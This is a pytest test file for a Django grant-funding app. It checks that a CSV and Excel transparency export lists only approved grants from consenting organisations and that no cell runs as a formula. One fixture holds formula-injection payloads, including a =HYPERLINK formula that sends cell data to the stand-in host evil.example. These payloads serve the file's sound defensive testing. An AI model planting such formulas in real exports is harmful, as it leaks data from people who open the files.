"""The transparency list names exactly the approved grants of organisations that consented to being listed,
as CSV and as an Excel workbook, and no cell of it can run as a formula."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from organisations.models import MembershipRole
from tests.factories import (
    ApplicationFactory,
    CallFactory,
    MembershipFactory,
    OrganisationFactory,
    ProgrammeFactory,
    UserFactory,
)
from tests.support.process import approve, propose, through_review
from workflow.services import application_submit_and_start

pytestmark = pytest.mark.django_db

HEADER = ["Recipient", "Project", "Amount (EUR)", "Approval period from", "Approval period until", "Programme", "Call",
          "Approved on"]  # fmt: skip


def application_of(name, call, *, listed=True, title="Sprachcafé für Eltern", requested=Decimal("2500.00")):
    organisation = OrganisationFactory(name=name, listed_since=timezone.now() if listed else None)
    user = UserFactory()
    MembershipFactory(user=user, organisation=organisation, role=MembershipRole.REPRESENTATIVE)
    application = ApplicationFactory(
        organisation=organisation, call=call, created_by=user, title=title, requested_amount=requested
    )
    application_submit_and_start(application=application, by=user)
    return application


@pytest.fixture
def decide(clerk, programme_admin, reviewer, approver):
    def run(application, *, amount=None, outcome="approve", approved=True):
        through_review(application, clerk=clerk, admin=programme_admin, reviewer=reviewer)
        approving = outcome == "approve"
        propose(
            application,
            by=clerk,
            outcome=outcome,
            amount=amount,
            period_start=date(2027, 3, 1) if approving else None,
            period_end=date(2027, 11, 30) if approving else None,
        )
        if approved:
            approve(application, by=approver)
        return application

    return run


@pytest.fixture
def grants(call, decide):
    """Approved, consenting: two. Approved without consent: one. Rejected, proposed only, or in another programme."""
    decide(application_of("Deutsch-Türkischer Elternverein Bremen e.V.", call), amount=Decimal("1500.00"))
    brucke = application_of('Verein "Brücke", Bremen-Nord', call, title="Nachhilfe, Lesen; Schreiben",
                            requested=Decimal("12000.50"))  # fmt: skip
    decide(brucke, amount=Decimal("12000.50"))
    decide(application_of("Stiller Verein ohne Einwilligung", call, listed=False), amount=Decimal("900.00"))
    decide(application_of("Abgelehnter Verein", call), outcome="reject")
    decide(application_of("Noch nicht freigegeben e.V.", call), amount=Decimal("800.00"), approved=False)
    other = CallFactory(programme=ProgrammeFactory(title_de="Stadtteilfonds"), title="Runde 1")
    decide(application_of("الجمعية العربية في بريمن", other), amount=Decimal("1500.00"))
    return call, other


def body_of(response) -> bytes:
    """The streamed download, read once."""
    if not hasattr(response, "body"):
        response.body = b"".join(response.streaming_content)
    return response.body


def csv_rows(response):
    content = body_of(response)
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark for Excel
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_rows(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return sheet, [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.fixture
def english_admin(client, programme_admin):
    programme_admin.language = "en"
    programme_admin.save()
    client.force_login(programme_admin)
    return programme_admin


def test_the_csv_lists_exactly_the_approved_grants_of_consenting_organisations(client, grants, english_admin):
    call, _ = grants
    today = timezone.localdate().isoformat()

    response = client.get("/staff/dashboard/transparency.csv", {"call": call.pk})

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="transparency-')
    assert csv_rows(response) == [
        HEADER,
        ["Deutsch-Türkischer Elternverein Bremen e.V.", "Sprachcafé für Eltern", "1500.00", "2027-03-01",
         "2027-11-30", "Self-help and project funding", call.title, today],
        ['Verein "Brücke", Bremen-Nord', "Nachhilfe, Lesen; Schreiben", "12000.50", "2027-03-01", "2027-11-30",
         "Self-help and project funding", call.title, today],
    ]  # fmt: skip
    body = body_of(response).decode("utf-8-sig")
    assert "Stiller Verein" not in body and "Abgelehnter" not in body and "Noch nicht" not in body
    assert '"Verein ""Brücke"", Bremen-Nord"' in body  # quotes doubled, commas quoted (RFC 4180)


def test_without_a_filter_every_programme_of_the_user_is_listed(client, grants, english_admin):
    response = client.get("/staff/dashboard/transparency.csv")

    recipients = [row[0] for row in csv_rows(response)[1:]]
    assert sorted(recipients) == sorted(
        ["Deutsch-Türkischer Elternverein Bremen e.V.", 'Verein "Brücke", Bremen-Nord', "الجمعية العربية في بريمن"]
    )


def test_the_workbook_has_the_same_grants_with_numbers_and_dates(client, grants, english_admin):
    call, _ = grants

    response = client.get("/staff/dashboard/transparency.xlsx", {"call": call.pk})

    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    _sheet, rows = xlsx_rows(response)
    assert rows[0] == HEADER
    assert [row[0] for row in rows[1:]] == [
        "Deutsch-Türkischer Elternverein Bremen e.V.",
        'Verein "Brücke", Bremen-Nord',
    ]
    assert [Decimal(str(row[2])) for row in rows[1:]] == [Decimal("1500.00"), Decimal("12000.50")]
    assert rows[1][3].date() == date(2027, 3, 1) and rows[1][4].date() == date(2027, 11, 30)
    assert all("Stiller Verein" not in str(value) for row in rows for value in row)


def test_an_organisation_that_revokes_its_consent_disappears_from_the_list(client, grants, english_admin):
    call, _ = grants
    from organisations.models import Organisation

    Organisation.objects.filter(name__startswith="Deutsch-Türkischer").update(listed_since=None)

    rows = csv_rows(client.get("/staff/dashboard/transparency.csv", {"call": call.pk}))
    assert [row[0] for row in rows[1:]] == ['Verein "Brücke", Bremen-Nord']
    _sheet, rows = xlsx_rows(client.get("/staff/dashboard/transparency.xlsx", {"call": call.pk}))
    assert [row[0] for row in rows[1:]] == ['Verein "Brücke", Bremen-Nord']


@pytest.fixture
def hostile(call, decide):
    decide(application_of('=HYPERLINK("https://evil.example/?"&A1,"Klick")', call, title="+SUM(1;2)"),
           amount=Decimal("1000.00"))  # fmt: skip
    decide(application_of("@Verein", call, title="-2+3"), amount=Decimal("1100.00"))
    decide(application_of("Verein – mit Gedankenstrich", call, title="Kein = am Anfang"), amount=Decimal("1200.00"))
    return call


def test_cells_that_would_run_as_formulas_are_escaped_in_the_csv(client, hostile, english_admin):
    rows = csv_rows(client.get("/staff/dashboard/transparency.csv", {"call": hostile.pk}))[1:]

    assert [(row[0], row[1]) for row in rows] == [
        ('\'=HYPERLINK("https://evil.example/?"&A1,"Klick")', "'+SUM(1;2)"),
        ("'@Verein", "'-2+3"),
        ("Verein – mit Gedankenstrich", "Kein = am Anfang"),
    ]
    assert [row[2] for row in rows] == ["1000.00", "1100.00", "1200.00"]  # amounts stay plain numbers


def test_no_cell_of_the_workbook_is_a_formula(client, hostile, english_admin):
    sheet, rows = xlsx_rows(client.get("/staff/dashboard/transparency.xlsx", {"call": hostile.pk}))

    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    hostile_cells = [sheet["A2"], sheet["B2"], sheet["A3"], sheet["B3"]]
    assert [cell.value for cell in hostile_cells] == [
        '=HYPERLINK("https://evil.example/?"&A1,"Klick")',
        "+SUM(1;2)",
        "@Verein",
        "-2+3",
    ]
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in hostile_cells)
    assert sheet["A4"].value == "Verein – mit Gedankenstrich" and not sheet["A4"].quotePrefix


def test_the_dashboard_says_how_many_grants_the_list_leaves_out(client, grants, english_admin):
    call, _ = grants
    html = client.get("/staff/dashboard/", {"call": call.pk}).content.decode()
    assert "The list names 2 of 3 approved grants" in html
    assert f'href="/staff/dashboard/transparency.csv?call={call.pk}"' in html
    assert f'href="/staff/dashboard/transparency.xlsx?call={call.pk}"' in html


def test_a_team_member_exports_only_the_own_programmes(client, grants):
    call, other = grants
    team = UserFactory(roles=["programme administrator"], language="en")
    other.programme.staff.add(team)
    client.force_login(team)

    rows = csv_rows(client.get("/staff/dashboard/transparency.csv"))

    assert [row[0] for row in rows[1:]] == ["الجمعية العربية في بريمن"]
    assert client.get("/staff/dashboard/transparency.xlsx", {"call": call.pk}).status_code == 400


def test_an_empty_list_still_has_its_header(client, call, english_admin):
    assert csv_rows(client.get("/staff/dashboard/transparency.csv", {"call": call.pk})) == [HEADER]
    _sheet, rows = xlsx_rows(client.get("/staff/dashboard/transparency.xlsx", {"call": call.pk}))
    assert rows == [HEADER]


def test_the_approval_date_is_the_day_in_berlin(client, call, decide, english_admin):
    application = decide(application_of("Nachteule e.V.", call), amount=Decimal("600.00"))
    # 00:30 in Berlin on 1 February is still 31 January in UTC.
    application.decisions.update(approved_at=datetime(2027, 1, 31, 23, 30, tzinfo=UTC))

    rows = csv_rows(client.get("/staff/dashboard/transparency.csv", {"call": call.pk}))

    assert rows[1][7] == "2027-02-01"
